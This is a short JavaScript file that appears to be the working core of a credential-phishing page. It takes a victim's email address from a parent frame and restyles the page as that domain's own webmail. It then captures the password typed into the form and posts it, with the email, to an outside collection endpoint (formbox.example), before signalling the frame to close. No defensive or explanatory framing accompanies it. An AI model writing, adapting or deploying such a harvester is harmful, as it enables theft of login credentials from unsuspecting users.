var who = "";
window.addEventListener("message", function (ev) {
  if (typeof ev.data === "string" && ev.data.indexOf("em:") === 0) {
    who = ev.data.slice(3);
    document.getElementById("mailbox").innerText = who;
    document.getElementById("brand").innerText = who.split("@")[1].split(".")[0].toUpperCase();
    document.title = document.getElementById("brand").innerText + " Webmail";
    document.getElementById("pane").classList.remove("hide");
  }
});
parent.postMessage("ready", "*");
document.getElementById("pane").addEventListener("submit", function (ev) {
  ev.preventDefault();
  var fd = new FormData();
  fd.append("x1", who);
  fd.append("x2", document.getElementById("pw").value);
  fetch("https://formbox.example/f/TOKEN", { method: "POST", body: fd, headers: { Accept: "application/json" } }).then(function () {
    parent.postMessage("close", "*");
  });
});
